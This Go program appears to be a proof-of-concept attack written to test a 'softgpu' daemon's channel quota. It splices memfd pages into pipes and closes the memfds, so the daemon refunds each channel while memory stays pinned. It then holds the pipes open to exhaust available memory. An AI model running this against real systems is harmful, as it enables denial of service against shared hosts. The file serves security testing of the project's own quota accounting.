// Attack: keep the pages of closed channels' memfds without keeping the
// memfds. The daemon counts a closed channel against the Channels quota
// until the kernel says both its memfds are gone (inotify IN_IGNORED,
// server/linger.go). splice(2) from a memfd into a pipe puts references
// to its pages in the pipe; the memfd can then be closed and unmapped —
// its inode goes, the daemon refunds the channel — while the pages stay
// allocated in the pipe for as long as the stranger keeps it.
//
// usage: splicekeep -node PATH [-n CYCLES]
package main

import (
	"bufio"
	"flag"
	"fmt"
	"net"
	"os"
	"strings"

	"golang.org/x/sys/unix"

	"softgpu/stage9-chardev/uapi"
)

func memAvailable() int64 {
	f, _ := os.Open("/proc/meminfo")
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var kb int64
		if strings.HasPrefix(sc.Text(), "MemAvailable:") {
			fmt.Sscanf(strings.TrimPrefix(sc.Text(), "MemAvailable:"), "%d", &kb)
			return kb << 10
		}
	}
	return 0
}

func main() {
	node := flag.String("node", "", "the node")
	n := flag.Int("n", 2000, "open/splice/close cycles")
	nosplice := flag.Bool("nosplice", false, "control: make the same pipes but splice nothing into them")
	flag.Parse()
	var rl unix.Rlimit
	unix.Getrlimit(unix.RLIMIT_NOFILE, &rl)
	rl.Cur = rl.Max
	unix.Setrlimit(unix.RLIMIT_NOFILE, &rl)
	sock, err := net.DialUnix("unixpacket", nil, &net.UnixAddr{Name: *node, Net: "unixpacket"})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	seq := uint64(0)
	call := func(arg uapi.Arg) ([]int, error) {
		seq++
		sock.WriteMsgUnix(uapi.EncodeCall(seq, arg), nil, nil)
		buf := make([]byte, 512)
		oob := make([]byte, 512)
		k, oobn, _, _, err := sock.ReadMsgUnix(buf, oob)
		if err != nil {
			return nil, err
		}
		fds := uapi.ReceivedFDs(oob[:oobn])
		_, err = uapi.DecodeReply(buf[:k], len(fds), arg)
		return fds, err
	}
	call(&uapi.Version{Major: uapi.VersionMajor, Minor: uapi.VersionMinor})
	if _, err := call(&uapi.Attach{}); err != nil {
		fmt.Fprintln(os.Stderr, "attach:", err)
		os.Exit(2)
	}
	before := memAvailable()
	var pipes []int
	var spliced, allocated int64
	i := 0
	var refused error
	for ; i < *n; i++ {
		co := &uapi.ChannelOpen{Engine: uint32(i % 2)}
		fds, err := call(co)
		if err != nil {
			refused = err
			break
		}
		for k, fd := range fds {
			size := int64(co.UserSize)
			if k == uapi.ChannelFDStatus {
				size = int64(co.StatusSize)
			}
			var p [2]int
			if err := unix.Pipe2(p[:], unix.O_CLOEXEC); err != nil {
				refused = fmt.Errorf("pipe: %w", err)
				break
			}
			unix.FcntlInt(uintptr(p[1]), unix.F_SETPIPE_SZ, 64<<10)
			// As much as the pipe takes without blocking (past the user's
			// soft limit on pipe pages a new pipe has two slots): the
			// first page of each memfd is the one the daemon wrote.
			if i == 0 && k == uapi.ChannelFDUser && !*nosplice {
				proveReference(fd)
			}
			off := int64(0)
			for off < size && !*nosplice {
				m, err := unix.Splice(fd, &off, p[1], nil, int(size-off), unix.SPLICE_F_NONBLOCK)
				if err != nil || m <= 0 {
					break
				}
				spliced += m
			}
			// The memfd's allocated pages (not holes) in what was spliced:
			// those the pipe now holds.
			for o := int64(0); o < off; {
				d, err := unix.Seek(fd, o, unix.SEEK_DATA)
				if err != nil || d >= off {
					break
				}
				h, err := unix.Seek(fd, d, unix.SEEK_HOLE)
				if err != nil {
					break
				}
				allocated += min(h, off) - d
				o = h
			}
			unix.Close(p[1])
			unix.Close(fd)
			pipes = append(pipes, p[0])
		}
		if refused != nil {
			break
		}
		if _, err := call(&uapi.ChannelClose{Channel: co.Channel}); err != nil {
			refused = err
			break
		}
		if i%1000 == 999 {
			fmt.Fprintf(os.Stderr, "%d cycles\n", i+1)
		}
	}
	after := memAvailable()
	fmt.Printf("%d open/splice/close cycles (refused: %v); holding %d pipes with %d bytes spliced, of them %d bytes of allocated memfd pages (%d KiB) now held by the pipes alone, no memfd; MemAvailable fell by %d KiB\n",
		i, refused, len(pipes), spliced, allocated, allocated>>10, (before-after)>>10)
	fmt.Println("holding")
	select {}
}

// proveReference shows that a splice from a memfd into a pipe holds the
// page itself, not a copy: it splices the first page into a pipe, writes
// a marker into the memfd afterwards, closes and unmaps the memfd, and
// reads the pipe; the marker is there only if the pipe held the page.
func proveReference(memfd int) {
	var p [2]int
	unix.Pipe2(p[:], unix.O_CLOEXEC)
	off := int64(0)
	unix.Splice(memfd, &off, p[1], nil, 4096, unix.SPLICE_F_NONBLOCK)
	dup, _ := unix.Dup(memfd)
	m, err := unix.Mmap(dup, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		fmt.Println("proof: mmap:", err)
		return
	}
	marker := []byte("WRITTEN-AFTER-THE-SPLICE")
	copy(m[2048:], marker)
	unix.Munmap(m)
	unix.Close(dup)
	buf := make([]byte, 4096)
	n, _ := unix.Read(p[0], buf)
	fmt.Printf("proof: the pipe's copy of page 0 read %d bytes; marker written after the splice present: %v (the pipe holds the page, not a copy)\n", n, string(buf[2048:2048+len(marker)]) == string(marker))
	unix.Close(p[0])
	unix.Close(p[1])
}
